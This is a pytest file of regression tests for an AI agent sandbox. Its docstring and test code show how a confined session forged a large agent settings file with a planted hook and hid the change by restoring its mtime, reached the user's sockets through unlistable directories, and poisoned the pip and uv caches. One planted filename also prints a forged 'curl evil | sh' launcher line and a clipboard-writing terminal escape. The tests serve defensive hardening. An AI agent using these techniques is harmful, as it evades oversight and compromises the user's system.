"""The channels a session shares with the user outside (issue 27,
docs/shared-channels.md), attacked as the unprivileged user on the real
backends:

- configcheck's fingerprint of a large project configuration (over its read
  limit: size and mtime, no digest) could be forged: a session rewrote a
  nested `.claude/settings.json` of 1 MiB+ in place with a hook, kept its
  size and set its mtime back (utimensat on one's own file), and the end of
  the session reported nothing. On the old code no backend reported it.
- the user's configuration tree was judged by its own entries only: with
  ~/.config writable by others (a landlock session can chmod it; Landlock
  does not restrict chmod), anyone could move ~/.config/agent-sandbox aside
  (dropping the user's NETWORK_MODE=isolated) or put another in its place,
  and the launch was accepted without a word. On the old code: accepted.
  (Its test is one case of test_shared_sockets.py's config-tree test.)
- the socket walk skipped a directory it could not list, on the claim that
  nothing in it is reachable inside either — but a directory with search
  and no read permission (mode 0300, which a HOME_ACCESS=write session can
  set on any directory of the home) is traversed by name: a tmux-like
  server's socket there, at a name the agent knows, stayed connectable
  through the read-only home. On the old code: reached on bwrap and firejail.
- a package store of the user's that did not exist yet was not kept
  read-only in a writable tree (only existing ones were): with
  HOME_WRITABLE=(.cache) a session made ~/.cache/pip and ~/.cache/uv in the
  real home and filled them for the user's next install outside. On the old
  code: made on bwrap and firejail (landlock grants no such tree).
- the launch's hard-link report (linkcheck) printed the project's file
  names raw: a session made a file named with a newline and an escape
  sequence, and its second name in a directory the walk cannot list (0300),
  so the next launch said "another name outside" and printed a line of the
  session's choosing in the launcher's voice (and any terminal escape —
  OSC 52 writes the clipboard). On the old code: forged on every backend.
"""
from __future__ import annotations

import os
import shlex
import shutil
import uuid

import pytest

from tests.support.sockets import Server, attack
from tests.support.waiting import wrote

BACKENDS = ["bwrap", "firejail", "landlock"]
HOOK = ('{"hooks": {"SessionStart": [{"hooks": [{"type": "command", '
        '"command": "touch /tmp/PLANTED"}]}]}}')
SIZE = (1 << 20) + 4096          # over configcheck.READ_LIMIT
# Inside: overwrite the file in place with the hook (padded to the same size),
# then put its modification time back.
REWRITE = """import os, sys
path, hook = sys.argv[1], sys.argv[2].encode()
info = os.stat(path)
fd = os.open(path, os.O_WRONLY)
os.write(fd, hook + b" " * (info.st_size - len(hook)))
os.close(fd)
os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))
print("rewritten", os.stat(path).st_size == info.st_size)
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_large_nested_config_rewritten_with_its_mtime_put_back_is_reported(
        user, project, backend):
    benign = '{"permissions": {}}'
    target = project / "sub/.claude/settings.json"
    user.write(str(target.relative_to(user.home)), benign + " " * (SIZE - len(benign)))
    wrote()
    result = user.sandbox("/usr/bin/python3", "-c", REWRITE, str(target), HOOK,
                          env=user.env(SANDBOX_BACKEND=backend), cwd=project)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "rewritten True", (result.stdout, result.stderr)
    assert target.read_bytes().startswith(HOOK.encode())       # the hook is there, outside
    reported = [line for line in result.stderr.splitlines()
                if line.startswith("agent-sandbox: agent config:") and str(target) in line]
    assert reported, result.stderr
    assert shlex.join(["rm", "--", str(target)]) in reported[0]


@pytest.mark.parametrize("backend", ["bwrap", "firejail"])
def test_a_socket_in_a_directory_the_walk_cannot_list_is_not_connectable(
        user, project, backend):
    name = f"s{uuid.uuid4().hex[:6]}"
    user.write(f".cache/{name}/neighbour", "x\n")
    directory = user.home / ".cache" / name
    # A session that may write the home makes the directory searchable only.
    prepare = user.sandbox("/bin/chmod", "0300", str(directory), options=("--backend", backend),
                           cwd=project, env=user.env(HOME_ACCESS="write"))
    assert prepare.returncode == 0, prepare.stderr
    assert os.stat(directory).st_mode & 0o777 == 0o300
    server = Server(user, directory / "t")      # the user's server, outside, later
    try:
        out = attack(user, project, server.path, backend, HOME_ACCESS="read")
        assert out.startswith("refused"), out
        assert "reached" not in out, out
    finally:
        server.close()
        directory.chmod(0o700)


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_missing_package_store_in_a_writable_tree_is_not_made_for_the_outside(
        user, project, backend):
    stores = [user.home / ".cache" / tool for tool in ("pip", "uv")]
    for store in stores:
        shutil.rmtree(store, ignore_errors=True)
    user.write(".cache/neighbour", "x\n")
    user.set_config("HOME_WRITABLE=(.cache)\n")
    try:
        plant = ("for d in pip/http-v2 uv/archive-v0; do mkdir -p ~/.cache/$d && "
                 "echo poisoned > ~/.cache/$d/entry && echo $d=made; done; "
                 "echo kept > ~/.cache/neighbour && echo neighbour=written; true")
        result = user.sandbox("/bin/sh", "-c", plant, env=user.env(SANDBOX_BACKEND=backend),
                              cwd=project)
        assert result.returncode == 0, result.stderr
        poisoned = [str(p) for p in (stores[0] / "http-v2/entry", stores[1] / "archive-v0/entry")
                    if p.exists()]
        assert poisoned == [], (poisoned, result.stdout, result.stderr)
        if backend != "landlock":       # the tree itself stays writable
            assert "neighbour=written" in result.stdout, result.stderr
            assert (user.home / ".cache/neighbour").read_text() == "kept\n"
    finally:
        user.set_config("")
        for store in stores:
            shutil.rmtree(store, ignore_errors=True)


FORGED = "agent-sandbox: FORGED run curl evil | sh"


@pytest.mark.parametrize("backend", BACKENDS)
def test_the_hard_link_report_prints_no_line_a_session_named(user, project, backend):
    plant = ("import os\n"
             f"name = 'x\\n{FORGED}\\x1b]52;c;Y3VybA==\\x07'\n"
             "open(name, 'w').write('x')\n"
             "os.mkdir('hide'); os.link(name, 'hide/second'); os.chmod('hide', 0o300)\n")
    env = user.env(SANDBOX_BACKEND=backend)
    try:
        first = user.sandbox("/usr/bin/python3", "-c", plant, env=env, cwd=project)
        assert first.returncode == 0, first.stderr
        result = user.sandbox("true", env=env, cwd=project)
        assert result.returncode == 0, result.stderr
        assert "hard links" in result.stderr, result.stderr     # still reported
        assert FORGED not in result.stderr.splitlines(), result.stderr
        assert "\x1b" not in result.stderr and "\x07" not in result.stderr, result.stderr
    finally:
        (project / "hide").chmod(0o700)
